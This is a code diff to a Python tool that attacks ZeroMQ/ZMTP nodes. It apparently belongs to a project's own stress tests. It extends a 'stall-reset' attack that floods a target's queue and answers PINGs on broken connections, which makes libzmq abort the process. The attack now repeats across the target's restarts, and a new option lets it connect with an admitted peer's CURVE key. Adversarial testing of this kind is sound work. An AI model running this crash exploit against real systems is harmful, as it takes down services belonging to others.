@@ -19,7 +19,9 @@ Kinds:
   one after another, each send a few more messages than the target's queue holds (`--frames`)
   and a ZMTP PING command in the same segment, then reset the connection. The engine stops
   reading at the full queue, the reset marks it broken, and once the target reads the queue the
-  engine decodes the PING and answers it on the broken connection: libzmq aborts the process;
+  engine decodes the PING and answers it on the broken connection: libzmq aborts the process.
+  It goes on for `--seconds` whatever happens to the target, counting the connections it lost
+  (`lost`: the target's process aborted) and those refused (`refused`: nothing listening);
 - malformed: raw ZMTP, a catalogue of what libzmq itself never sends (bad greeting bytes, a wrong
   version or mechanism, ERROR and READY with broken metadata in the handshake, a handshake never
   finished, CURVE's HELLO with a bad box and INITIATE with a bad vouch; after the handshake
@@ -45,6 +47,7 @@ import struct
 import sys
 import time
 from collections.abc import Callable
+from pathlib import Path
 
 import zmq
 
@@ -81,11 +84,17 @@ def _stranger_frames(identity: Identity, network: str, count: int) -> list[bytes
     return frames
 
 
+# The CURVE secret every CURVE connection of this run is made with (`--as-key`: an admitted peer's
+# own, derived from its node key as a node's is); None: a fresh key per connection.
+_CLIENT_SECRET: bytes | None = None
+
+
 def _zmtp_connection(target: str, target_key: bytes | None, timeout: float = 5.0) -> zmtp.Connection:
     """A raw ZMTP connection whose handshake is over, as a DEALER: over CURVE with a fresh client
-    key when the target's Ed25519 key is given (any key completes it on a node's public socket)."""
+    key (or `--as-key`'s) when the target's Ed25519 key is given (any key completes it on a
+    node's public socket; only admitted peers' on its peers' socket)."""
     server_key = curve_public_from_ed25519(target_key) if target_key is not None else None
-    return zmtp.connect(target, server_key=server_key, timeout=timeout)
+    return zmtp.connect(target, server_key=server_key, secret_key=_CLIENT_SECRET, timeout=timeout)
 
 
 def unfinished(target: str, max_bytes: int, seconds: float, target_key: bytes | None = None) -> dict:
@@ -109,40 +118,64 @@ def unfinished(target: str, max_bytes: int, seconds: float, target_key: bytes | 
 
 
 def stall_reset(target: str, frames: int, seconds: float, target_key: bytes | None = None) -> dict:
-    """See the module's docstring; `frames`: messages before the PING on each resetting connection."""
+    """See the module's docstring; `frames`: messages before the PING on each resetting
+    connection. Goes on for `seconds` whatever the target does: a connection lost or refused
+    (the target's process aborted, or is starting again) is counted, and the attack starts over
+    on a new one, as an attacker would against a target that restarts."""
+    started, resets, lost, refused = time.perf_counter(), 0, 0, 0
+    while time.perf_counter() - started < seconds:
+        try:
+            resets += _stall_reset_until_lost(target, frames, started + seconds, target_key)
+        except OSError:
+            refused += 1  # nothing listening: the target is down, or starting again
+            time.sleep(0.01)
+            continue
+        lost += time.perf_counter() - started < seconds
+    gone = False
+    try:
+        _zmtp_connection(target, target_key).close()
+    except OSError:
+        gone = True
+    return {
+        "sent": resets,
+        "lost": lost,
+        "refused": refused,
+        "target_gone": gone,
+        "seconds": round(time.perf_counter() - started, 3),
+    }
+
+
+def _stall_reset_until_lost(target: str, frames: int, until: float, target_key: bytes | None) -> int:
+    """One flooding connection and resetting ones beside it, until `until` or until one breaks
+    (OSError from the first connection; afterwards, returns the resets so far)."""
     message = _NOISE[:40]
-    flooding, resets, gone, started = _zmtp_connection(target, target_key), 0, False, time.perf_counter()
+    flooding, resets = _zmtp_connection(target, target_key), 0
     flooding.socket.setblocking(False)
     backlog = b""  # what the flooding connection has made and not sent: frames are never cut short
     try:
-        while time.perf_counter() - started < seconds:
+        while time.perf_counter() < until:
             backlog = backlog or b"".join(flooding.message_bytes(message) for _ in range(100))
             try:
                 backlog = backlog[flooding.socket.send(backlog) :]
             except BlockingIOError:
                 pass  # the target reads no faster than its budget: its queue and ours are full
-            except OSError:  # the target is gone
-                gone = True
-                break
-            try:
-                victim = _zmtp_connection(target, target_key)
-            except OSError:  # the target is gone
-                gone = True
-                break
+            victim = _zmtp_connection(target, target_key)
             segment = b"".join(victim.message_bytes(message) for _ in range(frames))
             try:
                 victim.send_raw(segment + victim.command_bytes(zmtp.ping(ttl=10, context=b"ab")))
-            except OSError:  # the target is gone
+            except OSError:
                 victim.close()
-                gone = True
-                break
+                raise
             time.sleep(0.001 * (1 + resets % 4))  # the target's engine reads it, its reader not yet
             victim.reset()
             resets += 1
             time.sleep(0.05)
+    except OSError:
+        if not resets:
+            raise
     finally:
         flooding.reset()
-    return {"sent": resets, "target_gone": gone, "seconds": round(time.perf_counter() - started, 3)}
+    return resets
 
 
 # --kind malformed: each case opens a connection of its own, sends its bytes and gives back the
@@ -368,6 +401,11 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("--seconds", type=float, default=5.0)
     parser.add_argument("--frames-per-key", type=int, help="default: enough that each connection keeps one key")
     parser.add_argument("--frames", type=int, default=6, help="stall-reset: messages before the PING")
+    parser.add_argument(
+        "--as-key",
+        help="raw ZMTP over CURVE: connect with the transport key of this node key file (an admitted "
+        "peer's, to reach the peers' socket) instead of a fresh key per connection",
+    )
     parser.add_argument("--network", default=_NETWORK_DEFAULT)
     parser.add_argument("--sizes", type=int, nargs="+", default=GARBAGE_SIZES, help="garbage message sizes")
     parser.add_argument("--bytes", type=int, default=200 << 20, help="unfinished: bytes of parts to send")
@@ -375,6 +413,9 @@ def main(argv: list[str] | None = None) -> int:
         "--target-key", type=bytes.fromhex, help="the target's public key (hex): connect over CURVE, as a node would"
     )
     args = parser.parse_args(argv)
+    if args.as_key:
+        global _CLIENT_SECRET
+        _CLIENT_SECRET = Identity.from_pem(Path(args.as_key).read_bytes()).curve_keypair()[0]
     if args.kind == "unfinished":
         print(json.dumps(unfinished(args.target, args.bytes, args.seconds, args.target_key)), flush=True)
         return 0
